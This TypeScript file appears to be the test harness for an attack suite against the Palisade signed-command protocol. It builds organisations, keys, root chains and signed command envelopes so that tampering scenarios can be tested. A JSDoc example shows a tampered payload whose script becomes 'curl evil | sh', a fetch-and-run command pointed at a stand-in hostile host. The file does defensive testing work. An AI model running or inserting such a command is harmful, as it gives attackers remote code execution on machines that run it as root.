/**
 * One organisation as the attack suite sees it: admin keys, witnesses, the
 * log (key, origin, ledger) and its signed root chain, with builders for
 * roots, commands and envelopes made by the real protocol functions.
 *
 * Nothing here decides who may sign what: a scenario passes the signers it
 * models (the org's honest quorum for material the server merely relays,
 * the one stolen admin key, or keys the attacker made up).
 */
import { randomBytes } from 'node:crypto'
import {
  canonicalJsonBytes, cosignature, dsse, formatCommandPayload, fromUtf8, note, parseCommandPayload, rootFingerprint, toBase64,
  COMMAND_PAYLOAD_TYPE, COMMAND_TYPE, ROOT_PAYLOAD_TYPE, ROOT_TYPE,
} from '@palisade/protocol'
import { key, type Key } from './keys.js'
import { Ledger } from './ledger.js'

/** Unix seconds now, as the agent computes it. */
export const nowSeconds = (): number => Math.floor(Date.now() / 1000)

/** A JSON object, loosely typed: scenarios build invalid ones on purpose. */
export type Json = Record<string, unknown>

export class AttackOrg {
  readonly org: string
  /** admins[0..2] are in root v1; more exist for rotations. */
  readonly admins: readonly Key[]
  readonly witnesses: readonly Key[]
  readonly logKey: Key
  readonly origin: string
  readonly ledger: Ledger
  /** The published root chain, v1 first (envelope JSON). */
  readonly roots: string[] = []

  /** `admins` lets two orgs share keys (a managed-service provider's admins). */
  constructor(org: string, admins?: readonly Key[]) {
    this.org = org
    this.admins = admins ?? [0, 1, 2, 3, 4].map((i) => key(`${org}/admin${i}`, `admin${i}`))
    this.witnesses = [0, 1].map((i) => key(`${org}/witness${i}`, `witness${i}.${org}.example`))
    this.origin = `palisade/${org}`
    this.logKey = key(`${org}/log`, this.origin)
    this.ledger = new Ledger(this.origin)
  }

  /** Root v1 signed by admins 0 and 1, logged as entry 0 (as the server does at setup). */
  async init(): Promise<this> {
    const v1 = await this.signRoot(this.rootObject(1, this.admins.slice(0, 3)), this.admins.slice(0, 2))
    this.roots.push(v1)
    this.ledger.appendRoot(v1)
    return this
  }

  get fingerprint(): string {
    return rootFingerprint(dsse.parseEnvelope(this.roots[0]!).payload)
  }

  /** A root payload: 2-of-n for commands and rotations, all witnesses must cosign. */
  rootObject(version: number, admins: readonly Key[], over: Json = {}): Json {
    const now = nowSeconds()
    return {
      type: ROOT_TYPE,
      org: this.org,
      version,
      issuedAt: now - 3600,
      expiresAt: now + 30 * 86400,
      admins: admins.map((a) => ({ id: a.id, name: a.name, publicKey: toBase64(a.pub) })),
      thresholds: { command: 2, policy: 2, root: 2, device: 1 },
      witnesses: { quorum: 2, keys: this.witnesses.map((w) => cosignature.formatWitnessVerifierKey(w.name, w.pub)) },
      log: { origin: this.origin, key: note.formatVerifierKey(this.logKey.name, this.logKey.pub) },
      maxCommandValiditySeconds: 7 * 86400,
      frozen: false,
      ...over,
    }
  }

  async signRoot(root: Json, signers: readonly Key[]): Promise<string> {
    return this.signBytes(canonicalJsonBytes(root), signers, ROOT_PAYLOAD_TYPE)
  }

  /** A valid command payload for `id`; `over` replaces fields. */
  command(id: string, over: Json = {}): Json {
    const now = nowSeconds()
    return {
      type: COMMAND_TYPE,
      org: this.org,
      id,
      script: 'true',
      interpreter: 'sh',
      timeoutSeconds: 30,
      runAs: 'root',
      targets: { kind: 'all' },
      notBefore: now - 60,
      notAfter: now + 3600,
      nonce: toBase64(randomBytes(16)),
      ...over,
    }
  }

  /** Signs a command payload that the protocol accepts (checked by its own parser first). */
  async signCommand(payload: Json, signers: readonly Key[]): Promise<string> {
    return this.signBytes(formatCommandPayload(parseCommandPayload(canonicalJsonBytes(payload))), signers)
  }

  /** Signs arbitrary payload bytes under `payloadType`: for payloads the parser would refuse. */
  async signBytes(payload: Uint8Array, signers: readonly Key[], payloadType = COMMAND_PAYLOAD_TYPE): Promise<string> {
    const env = await dsse.signEnvelope(payloadType, payload, signers.map((k) => dsse.ed25519Signer(k.id, k.seed)))
    return dsse.formatEnvelope(env)
  }
}

/**
 * The same signatures over an edited payload: what a server that changes a
 * command after the admins signed it would deliver.
 *
 * @example
 * const edited = editPayload(signed, { script: 'curl evil | sh' })
 */
export function editPayload(envelope: string, over: Json): string {
  const env = dsse.parseEnvelope(envelope)
  const payload = { ...(JSON.parse(fromUtf8(env.payload)) as Json), ...over }
  return dsse.formatEnvelope({ ...env, payload: canonicalJsonBytes(payload) })
}
